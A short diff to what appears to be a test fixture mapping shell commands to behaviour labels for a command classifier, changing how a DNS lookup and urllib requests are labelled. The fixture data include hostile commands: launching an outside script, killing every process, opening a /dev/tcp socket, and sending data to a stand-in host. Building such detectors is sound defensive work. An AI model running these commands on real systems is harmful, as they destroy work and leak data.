@@ -29,10 +29,10 @@ DONE = {
     "(setsid /outside/evil.sh &)": {"runs a program from outside", "reads outside"},
     "kill -9 -1": {"ends programs"},
     "exec 3<>/dev/tcp/203.0.113.7/80": {"sends"},
-    "getent hosts x.example": {"sends"},
+    "getent hosts x.example": {"looks away"},
     "python3 -c \"import urllib.request as u; u.urlopen('http://x.example/')\"": {"looks away"},
-    "python3 -c \"import urllib.request as u; u.urlopen('http://x.example/?k=1')\"": {"sends"},
-    "python3 -c \"import urllib.request as u; u.urlopen('http://x.example/', b'k')\"": {"sends"},
+    "python3 -c \"import urllib.request as u; u.urlopen('http://x.example/?k=1')\"": {"looks away", "sends"},
+    "python3 -c \"import urllib.request as u; u.urlopen('http://x.example/', b'k')\"": {"looks away", "sends"},
 }
 
 
